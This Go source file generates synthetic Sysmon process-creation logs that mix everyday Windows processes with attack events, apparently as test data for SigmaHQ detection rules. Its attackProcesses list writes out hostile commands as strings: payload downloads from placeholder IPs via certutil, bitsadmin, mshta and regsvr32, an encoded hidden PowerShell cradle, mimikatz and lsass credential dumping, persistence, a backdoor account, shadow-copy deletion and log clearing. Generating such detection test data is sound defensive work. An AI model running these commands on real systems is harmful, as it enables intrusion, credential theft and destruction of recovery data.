package lanes

import (
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"slices"
	"strings"
)

// sysmonEvent is one Sysmon process-creation event (EventID 1) with
// SigmaHQ's field names, in Sysmon's field order.
type sysmonEvent struct {
	RuleName          string
	UtcTime           string
	ProcessGuid       string
	ProcessId         int
	Image             string
	FileVersion       string
	Description       string
	Product           string
	Company           string
	OriginalFileName  string
	CommandLine       string
	CurrentDirectory  string
	User              string
	LogonGuid         string
	LogonId           string
	TerminalSessionId int
	IntegrityLevel    string
	Hashes            string
	ParentProcessGuid string
	ParentProcessId   int
	ParentImage       string
	ParentCommandLine string
	ParentUser        string
	EventID           int
	Channel           string
	Provider_Name     string
	Computer          string
	EventRecordID     int
}

// image describes an executable as Sysmon reports it.
type image struct {
	path, originalFileName, description, company, product, version string
}

// parent is a process that starts others.
type parent struct {
	image, commandLine string
	system             bool // runs as NT AUTHORITY\SYSTEM
}

// benignProcess is an everyday process: its command-line templates, its
// parent, its integrity level and how often it starts.
type benignProcess struct {
	image
	commandLines []string
	parent       string
	integrity    string
	weight       int
}

// attackProcess is a process that at least one SigmaHQ
// windows/process_creation rule detects.
type attackProcess struct {
	image
	commandLine string
	parent      string
}

const sys32 = `C:\Windows\System32\`

var (
	windowsHosts = []string{"WS-0042.corp.example.com", "WS-1187.corp.example.com", "LT-3301.corp.example.com",
		"SRV-FILE01.corp.example.com", "SRV-APP02.corp.example.com", "WS-2210.corp.example.com"}
	windowsUsers = []string{`CORP\alice`, `CORP\bob`, `CORP\carol`, `CORP\dave`, `CORP\erin`}
	systemUsers  = []string{`NT AUTHORITY\SYSTEM`, `NT AUTHORITY\LOCAL SERVICE`, `NT AUTHORITY\NETWORK SERVICE`}
)

// microsoft builds the image of a Windows component.
func microsoft(path, originalFileName, description, version string) image {
	return image{path, originalFileName, description, "Microsoft Corporation", "Microsoft\u00ae Windows\u00ae Operating System", version}
}

var parents = map[string]parent{
	"services":     {sys32 + "services.exe", sys32 + "services.exe", true},
	"svchost_dcom": {sys32 + "svchost.exe", sys32 + "svchost.exe -k DcomLaunch -p", true},
	"explorer":     {`C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`, false},
	"chrome":       {`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe"`, false},
	"msedge": {`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`,
		`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default`, false},
	"firefox": {`C:\Program Files\Mozilla Firefox\firefox.exe`, `"C:\Program Files\Mozilla Firefox\firefox.exe"`, false},
	"code": {`C:\Users\{u}\AppData\Local\Programs\Microsoft VS Code\Code.exe`,
		`"C:\Users\{u}\AppData\Local\Programs\Microsoft VS Code\Code.exe"`, false},
	"cmd":        {sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, false},
	"powershell": {sys32 + `WindowsPowerShell\v1.0\powershell.exe`, `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"`, false},
}

var benignProcesses = []benignProcess{
	{microsoft(sys32+"svchost.exe", "svchost.exe", "Host Process for Windows Services", "10.0.19041.3636"),
		[]string{sys32 + "svchost.exe -k netsvcs -p -s Schedule", sys32 + "svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog",
			sys32 + "svchost.exe -k NetworkService -p -s Dnscache", sys32 + "svchost.exe -k UnistackSvcGroup"},
		"services", "System", 14},
	{image{`C:\Program Files\Google\Chrome\Application\chrome.exe`, "chrome.exe", "Google Chrome", "Google LLC", "Google Chrome", "120.0.6099.130"},
		[]string{`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --renderer-client-id={n} --launch-time-ticks={n}`,
			`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAQAAAAAAAAAAAAAAAAAABgAAAAAAA`,
			`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US`},
		"chrome", "Low", 16},
	{image{`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, "msedge.exe", "Microsoft Edge", "Microsoft Corporation", "Microsoft Edge", "120.0.2210.91"},
		[]string{`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=renderer --instant-process --lang=en-US --renderer-client-id={n}`},
		"msedge", "Low", 8},
	{image{`C:\Program Files\Mozilla Firefox\firefox.exe`, "firefox.exe", "Firefox", "Mozilla Corporation", "Firefox", "121.0.0.8725"},
		[]string{`"C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc -childID {n} -isForBrowser -prefsLen 31207 -prefMapSize 244787 -appDir "C:\Program Files\Mozilla Firefox\browser" 8812 true tab`},
		"firefox", "Low", 6},
	{microsoft(sys32+"conhost.exe", "CONHOST.EXE", "Console Window Host", "10.0.19041.1202"),
		[]string{`\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`}, "cmd", "Medium", 6},
	{microsoft(sys32+"SearchIndexer.exe", "SearchIndexer.exe", "Microsoft Windows Search Indexer", "7.0.19041.3636"),
		[]string{sys32 + "SearchIndexer.exe /Embedding"}, "services", "System", 3},
	{microsoft(sys32+`wbem\WmiPrvSE.exe`, "Wmiprvse.exe", "WMI Provider Host", "10.0.19041.3636"),
		[]string{sys32 + `wbem\wmiprvse.exe -secured -Embedding`}, "svchost_dcom", "System", 4},
	{microsoft(sys32+"RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker", "10.0.19041.3636"),
		[]string{sys32 + "RuntimeBroker.exe -Embedding"}, "svchost_dcom", "Medium", 6},
	{microsoft(sys32+"backgroundTaskHost.exe", "backgroundTaskHost.exe", "Background Task Host", "10.0.19041.3636"),
		[]string{`"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kmcrr7yz3k7c7p5h.mca`},
		"svchost_dcom", "Low", 4},
	{microsoft(sys32+"dllhost.exe", "dllhost.exe", "COM Surrogate", "10.0.19041.546"),
		[]string{sys32 + "DllHost.exe /Processid:{g}"}, "svchost_dcom", "Medium", 5},
	{microsoft(sys32+"taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks", "10.0.19041.3636"),
		[]string{"taskhostw.exe Install $(Arg0)", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly"},
		"svchost_dcom", "Medium", 3},
	{image{`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, "Outlook.exe", "Microsoft Outlook", "Microsoft Corporation", "Microsoft Outlook", "16.0.17126.20132"},
		[]string{`"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle`}, "explorer", "Medium", 3},
	{image{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "WinWord.exe", "Microsoft Word", "Microsoft Corporation", "Microsoft Office", "16.0.17126.20132"},
		[]string{`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{u}\Documents\Q{n}-report.docx"`},
		"explorer", "Medium", 3},
	{image{`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, "Excel.exe", "Microsoft Excel", "Microsoft Corporation", "Microsoft Office", "16.0.17126.20132"},
		[]string{`"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\{u}\Documents\budget-{n}.xlsx"`},
		"explorer", "Medium", 2},
	{microsoft(sys32+"notepad.exe", "NOTEPAD.EXE", "Notepad", "10.0.19041.3636"),
		[]string{`"C:\Windows\system32\NOTEPAD.EXE" C:\Users\{u}\Documents\notes-{n}.txt`}, "explorer", "Medium", 3},
	{image{`C:\Users\{u}\AppData\Local\Programs\Microsoft VS Code\Code.exe`, "electron.exe", "Visual Studio Code", "Microsoft Corporation", "Visual Studio Code", "1.85.1"},
		[]string{`"C:\Users\{u}\AppData\Local\Programs\Microsoft VS Code\Code.exe" --type=renderer --enable-sandbox --lang=en-US --renderer-client-id={n}`},
		"code", "Medium", 4},
	{image{`C:\Users\{u}\AppData\Local\Microsoft\OneDrive\OneDrive.exe`, "OneDrive.exe", "Microsoft OneDrive", "Microsoft Corporation", "Microsoft OneDrive", "23.246.1127.0002"},
		[]string{`"C:\Users\{u}\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background`}, "explorer", "Medium", 2},
	{image{`C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe`, "msedgeupdate.dll", "Microsoft Edge Update", "Microsoft Corporation", "Microsoft Edge Update", "1.3.183.29"},
		[]string{`"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler`},
		"services", "System", 2},
	{microsoft(sys32+"ctfmon.exe", "CTFMON.EXE", "CTF Loader", "10.0.19041.3636"), []string{`"ctfmon.exe"`}, "explorer", "Medium", 2},
	{microsoft(sys32+"sihost.exe", "sihost.exe", "Shell Infrastructure Host", "10.0.19041.3636"), []string{"sihost.exe"},
		"svchost_dcom", "Medium", 1},
}

var benignWeights = func() []int {
	w := make([]int, len(benignProcesses))
	for i, p := range benignProcesses {
		w[i] = p.weight
	}
	return w
}()

var attackProcesses = []attackProcess{
	{microsoft(sys32+`WindowsPowerShell\v1.0\powershell.exe`, "PowerShell.EXE", "Windows PowerShell", "10.0.19041.3570"),
		"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "cmd"},
	{microsoft(sys32+"rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)", "10.0.19041.3636"),
		`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.7/x.sct")`, "explorer"},
	{microsoft(sys32+"certutil.exe", "CertUtil.exe", "CertUtil.exe", "10.0.19041.3636"),
		`certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\Users\Public\p.exe`, "cmd"},
	{microsoft(sys32+"whoami.exe", "whoami.exe", "whoami - displays logged on user information", "10.0.19041.1"),
		"whoami /priv", "cmd"},
	{image{`C:\Users\Public\mimikatz.exe`, "mimikatz.exe", "mimikatz for Windows", "gentilkiwi (Benjamin DELPY)", "mimikatz", "2.2.0.0"},
		`mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`, "cmd"},
	{microsoft(sys32+"reg.exe", "reg.exe", "Registry Console Tool", "10.0.19041.1"),
		`reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v upd /t REG_SZ /d C:\Users\Public\u.exe /f`, "cmd"},
	{microsoft(sys32+`wbem\WMIC.exe`, "wmic.exe", "WMI Commandline Utility", "10.0.19041.1"),
		`wmic process call create "cmd.exe /c C:\Users\Public\stage2.bat"`, "powershell"},
	{microsoft(sys32+"vssadmin.exe", "VSSADMIN.EXE", "Command Line Interface for Microsoft\u00ae Volume Shadow Copy Service ", "10.0.19041.1"),
		"vssadmin.exe delete shadows /all /quiet", "cmd"},
	{microsoft(sys32+"schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool", "10.0.19041.1"),
		`schtasks /create /tn Updater /tr C:\Users\Public\u.exe /sc onlogon /ru SYSTEM`, "cmd"},
	{microsoft(sys32+"net1.exe", "net1.exe", "Net Command", "10.0.19041.1"), `C:\Windows\system32\net1 user backdoor P@ssw0rd1 /add`, "cmd"},
	{microsoft(sys32+"bitsadmin.exe", "bitsadmin.exe", "BITS administration utility", "7.8.19041.1"),
		`bitsadmin /transfer job /download /priority high http://203.0.113.5/a.exe C:\Users\Public\a.exe`, "cmd"},
	{microsoft(sys32+"mshta.exe", "MSHTA.EXE", "Microsoft (R) HTML Application host", "11.00.19041.1"),
		"mshta.exe http://203.0.113.9/x.hta", "explorer"},
	{microsoft(sys32+"regsvr32.exe", "REGSVR32.EXE", "Microsoft(C) Register Server", "10.0.19041.1"),
		"regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll", "cmd"},
	{image{`C:\Users\Public\procdump64.exe`, "procdump", "Sysinternals process dump utility", "Sysinternals - www.sysinternals.com", "ProcDump", "11.0"},
		`procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\l.dmp`, "cmd"},
	{microsoft(sys32+"nltest.exe", "nltestrk.exe", "Microsoft\u00ae Logon Server Test Utility", "10.0.19041.1"),
		"nltest /domain_trusts /all_trusts", "cmd"},
	{microsoft(sys32+"wevtutil.exe", "wevtutil.exe", "Eventing Command Line Utility", "10.0.19041.1"), "wevtutil cl Security", "cmd"},
}

// sysmonStart is the first event's time of day, in milliseconds.
const sysmonStart = 9 * 3600 * 1000

// sysmonProc returns event i of the Sysmon lane: ~37 ms apart, mostly
// everyday processes, about attackRate of them attacks.
func (g *generator) sysmonProc(i int) sysmonEvent {
	host := pick(g, windowsHosts)
	var (
		img                   image
		cmd, parentKey, integ string
		user                  string
	)
	if g.chance(attackRate) {
		p := pick(g, attackProcesses)
		img, cmd, parentKey = p.image, p.commandLine, p.parent
		user = pick(g, windowsUsers)
		integ = pick(g, []string{"Medium", "High"})
	} else {
		p := benignProcesses[g.pickWeighted(benignWeights)]
		img, parentKey, integ = p.image, p.parent, p.integrity
		cmd = pick(g, p.commandLines)
		user = pick(g, windowsUsers)
	}
	par := parents[parentKey]
	if integ == "System" {
		user = pick(g, systemUsers)
	}
	path, cmd := g.fill(img.path, user), g.fill(cmd, user)
	parentPath, parentCmd := g.fill(par.image, user), g.fill(par.commandLine, user)
	parentUser := user
	if par.system {
		parentUser = `NT AUTHORITY\SYSTEM`
	}
	ms := sysmonStart + i*37 + g.rng.IntN(37)
	system := slices.Contains(systemUsers, user)
	dir, session := `C:\Users\`+user[strings.LastIndexByte(user, '\\')+1:]+`\`, 1
	if system {
		dir, session = `C:\Windows\system32\`, 0
	}
	return sysmonEvent{
		RuleName: "-",
		UtcTime: fmt.Sprintf("2026-07-28 %02d:%02d:%02d.%03d",
			(ms/3600000)%24, (ms/60000)%60, (ms/1000)%60, ms%1000),
		ProcessGuid:       g.guid(),
		ProcessId:         g.between(1000, 65000),
		Image:             path,
		FileVersion:       img.version,
		Description:       img.description,
		Product:           img.product,
		Company:           img.company,
		OriginalFileName:  img.originalFileName,
		CommandLine:       cmd,
		CurrentDirectory:  dir,
		User:              user,
		LogonGuid:         g.guid(),
		LogonId:           "0x" + g.hex(6, false),
		TerminalSessionId: session,
		IntegrityLevel:    integ,
		Hashes:            fileHashes(path + img.version),
		ParentProcessGuid: g.guid(),
		ParentProcessId:   g.between(500, 65000),
		ParentImage:       parentPath,
		ParentCommandLine: parentCmd,
		ParentUser:        parentUser,
		EventID:           1,
		Channel:           "Microsoft-Windows-Sysmon/Operational",
		Provider_Name:     "Microsoft-Windows-Sysmon",
		Computer:          host,
		EventRecordID:     4200000 + i,
	}
}

// fileHashes is Sysmon's Hashes field for a binary: a function of the
// binary, so stable per image as in real logs.
func fileHashes(binary string) string {
	upper := func(sum []byte) string { return strings.ToUpper(hex.EncodeToString(sum)) }
	b := []byte(binary)
	s1, m5, s256, imp := sha1.Sum(b), md5.Sum(b), sha256.Sum256(b), md5.Sum(append([]byte("imp"), b...))
	return "SHA1=" + upper(s1[:]) + ",MD5=" + upper(m5[:]) + ",SHA256=" + upper(s256[:]) + ",IMPHASH=" + upper(imp[:])
}
